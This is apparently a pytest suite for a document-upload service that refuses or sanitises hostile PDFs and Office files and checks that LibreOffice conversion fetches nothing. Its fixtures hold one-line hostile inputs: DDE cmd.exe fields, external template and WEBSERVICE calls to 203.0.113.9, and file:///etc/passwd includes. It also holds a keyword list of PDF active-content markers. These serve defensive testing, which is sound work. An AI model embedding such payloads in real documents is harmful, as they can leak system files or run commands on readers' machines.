"""Files made to harm: each gets a clear word or is made harmless, and nothing is left behind."""

import io
import re
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from django.core.files.base import ContentFile

from creditor_meetings.cases.files import containers, office, opening
from creditor_meetings.cases.files.content import BadFile
from documents import store, verbs
from documents.models import Document
from tests.documents import hostile
from tests.documents.conftest import House
from tests.documents.hostile import CONVERTED, FLAGGED, HARMLESS, REFUSED
from tests.support.databases import wait_until

Stored = Callable[[], list[Path]]


@pytest.mark.parametrize("what", REFUSED)
def test_refused_with_a_word_and_nothing_is_left(what: str, house: House, stored: Stored) -> None:
    case = REFUSED[what]
    with pytest.raises(BadFile) as refused:
        _upload(house, case)
    assert re.search(case.refused, refused.value.message), refused.value.message
    assert not Document.objects.exists()
    assert stored() == []


def _upload(house: House, case: hostile.Case) -> None:
    file = ContentFile(case.make(), name=case.name)
    verbs.upload_document(house.meeting, file, house.viewer("administrator"))


@pytest.mark.parametrize("what", FLAGGED)
def test_what_acts_in_a_pdf_is_taken_out_and_told(what: str, house: House, stored: Stored) -> None:
    case = FLAGGED[what]
    data = case.make()
    document = house.upload(data, name=case.name)
    assert set(case.flags) <= set(document.flags), document.flags
    shown = store.path_of(document.sha256).read_bytes()
    assert document.size == len(shown)
    assert document.pages == 2
    assert store.path_of(document.original_sha256).read_bytes() == data
    assert len(stored()) == 2
    assert _acts(shown) == set()
    # Looked at again it is clean.
    again = house.upload(shown, name="再来.pdf")
    assert (again.flags, again.original_sha256) == ([], "")


def _acts(data: bytes) -> set[str]:
    """Find by another way than the cleaning's what could act: in all that is written out."""
    paper = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(
            paper,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            compress_streams=False,
        )
    words = ("/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/Filespec", "/AA", "/XFA",
             "/SubmitForm", "/RichMedia", "cmd.exe", "app.alert")  # fmt: skip
    return {word for word in words if word.encode() in paper.getvalue()}


@pytest.mark.parametrize("what", HARMLESS)
def test_what_does_no_harm_stays_as_it_is(what: str, house: House) -> None:
    case = HARMLESS[what]
    data = case.make()
    document = house.upload(data, name=case.name)
    assert (document.flags, document.original_sha256) == ([], "")
    assert store.path_of(document.sha256).read_bytes() == data
    assert len(document.file_name) <= 200
    assert document.file_name.endswith(".pdf")
    assert document.title in ("a", "报告") or document.title.startswith("长长")
    assert not re.search(r"[/\\\u200b\u202e\n]", document.file_name + document.title)


@pytest.mark.parametrize("what", CONVERTED)
def test_an_office_file_is_read_as_a_pdf(what: str, house: House, stored: Stored) -> None:
    case = CONVERTED[what]
    data = case.make()
    document = house.upload(data, name=case.name)
    assert document.flags == sorted(case.flags)
    assert (document.kind, document.media_type) == ("pdf", "application/pdf")
    assert document.file_name == f"{Path(case.name).stem}.pdf"
    assert (document.original_name, document.original_size) == (case.name, len(data))
    assert store.path_of(document.original_sha256).read_bytes() == data
    text = "".join(opening.read(store.path_of(document.sha256)))
    assert re.search("方案|厂房|财产状况报告", text), text
    assert len(stored()) == 2


def test_without_libreoffice_it_says_what_to_do(house: House, settings, stored: Stored) -> None:
    settings.SOFFICE = "no-such-program"
    with pytest.raises(BadFile, match="未安装 LibreOffice"):
        house.upload(hostile.document(), name="方案.docx")
    assert stored() == []
    page = house.client("administrator").get(house.url()).content.decode()
    assert "未安装 LibreOffice" in page
    assert ".docx" not in page


def test_a_conversion_that_never_ends_is_ended(
    house: House, settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stored: Stored
) -> None:
    program = tmp_path / "soffice"
    told = tmp_path / "child"
    program.write_text(f"#!/bin/sh\nsleep 600 & echo $! > {told}; wait\n")
    program.chmod(0o700)
    settings.SOFFICE = str(program)
    monkeypatch.setattr(office, "_no_network", lambda: ())
    # On a slow machine the program may be ended before it has begun anything: it gets longer.
    for seconds in (1, 4, 16, 64):
        monkeypatch.setattr(office, "SECONDS", seconds)
        with pytest.raises(BadFile, match="过大"):
            house.upload(hostile.document(), name="方案.docx")
        assert stored() == []
        if told.exists() and told.read_text().strip():
            break
    child = Path(f"/proc/{int(told.read_text())}/cmdline")

    def ended() -> bool:
        """Gone, or dead and not yet buried."""
        try:
            return not child.read_bytes()
        except (FileNotFoundError, ProcessLookupError):
            return True

    wait_until(ended, seconds=30, what="the end of what the program began")


def _cleaned(tmp_path: Path, data: bytes) -> tuple[dict[str, bytes], list[str]]:
    import zipfile

    source, output = tmp_path / "source", tmp_path / "output"
    source.write_bytes(data)
    flags = containers.clean(str(source), str(output))["flags"]
    with zipfile.ZipFile(output) as file:
        return {name: file.read(name) for name in file.namelist()}, flags


@pytest.mark.parametrize(
    ("data", "gone"),
    [
        (hostile.with_relation(hostile.document(), "attachedTemplate", "http://203.0.113.9/t.dotm"),
         b"203.0.113.9"),
        (hostile.with_relation(hostile.document(), "image", "file:///etc/passwd"), b"etc/passwd"),
        (hostile.with_relation(hostile.document(), "oleObject", "\\\\203.0.113.9\\share"),
         b"203.0.113.9"),
        (hostile.with_relation(hostile.document(), "hyperlink", "file:///etc/passwd"),
         b"etc/passwd"),
        (hostile.with_field(" INCLUDE", "TEXT ", '"/etc/passwd"'), b"etc/passwd"),
        (hostile.with_field(' IncludePicture "http://203.0.113.9/a.png" \\d'), b"203.0.113.9"),
        (hostile.with_field("DDEAUTO c:\\\\windows\\\\cmd.exe"), b"cmd.exe"),
        (hostile.with_formula('=_xlfn.WEBSERVICE("http://203.0.113.9/")'), b"203.0.113.9"),
    ],
)  # fmt: skip
def test_nothing_is_fetched_for_a_file(data: bytes, gone: bytes, tmp_path: Path) -> None:
    parts, flags = _cleaned(tmp_path, data)
    assert flags == ["external_removed"]
    assert not any(gone in one for one in parts.values())


def test_links_that_a_reader_may_follow_stay(tmp_path: Path) -> None:
    data = hostile.with_relation(hostile.document(), "hyperlink", "https://example.org/")
    data = hostile.changed(data, lambda parts: None)
    parts, flags = _cleaned(tmp_path, data)
    assert flags == []
    assert b"https://example.org/" in parts["word/_rels/document.xml.rels"]
    parts, flags = _cleaned(tmp_path, hostile.with_field(" PAGE "))
    assert flags == []
    assert b" PAGE " in parts["word/document.xml"]


def test_what_names_a_dropped_part_goes_with_it(tmp_path: Path) -> None:
    data = hostile.with_parts(hostile.document(), word__vbaProject_dot_bin=b"macros")

    def names_it(parts: dict[str, bytes]) -> None:
        rels = "word/_rels/document.xml.rels"
        row = (
            b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/'
            b'vbaProject" Target="vbaProject.bin"/></Relationships>'
        )
        parts[rels] = parts[rels].replace(b"</Relationships>", row)

    parts, flags = _cleaned(tmp_path, hostile.changed(data, names_it))
    assert flags == ["macros_left_out"]
    assert not any(b"vbaProject" in one for one in parts.values())
    assert "word/vbaProject.bin" not in parts


def test_libreoffice_by_itself_fetches_nothing(tmp_path: Path) -> None:
    """Were something left that leads outside, LibreOffice would not follow it either."""
    import socket
    import threading

    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        port, over = server.getsockname()[1], threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    line, _address = server.accept()
                except TimeoutError:
                    continue
                asked.append(line.recv(1000))
                line.close()

        listener = threading.Thread(target=listen)
        listener.start()
        source = tmp_path / "source.docx"
        data = hostile.with_field(f'INCLUDEPICTURE "http://127.0.0.1:{port}/a.png" \\d')
        address = f"http://127.0.0.1:{port}/t.dotm"
        source.write_bytes(hostile.with_relation(data, "attachedTemplate", address))
        office.convert(source, "docx", tmp_path / "a.pdf")
        over.set()
        listener.join()
    assert asked == []
    assert (tmp_path / "a.pdf").read_bytes().startswith(b"%PDF-")
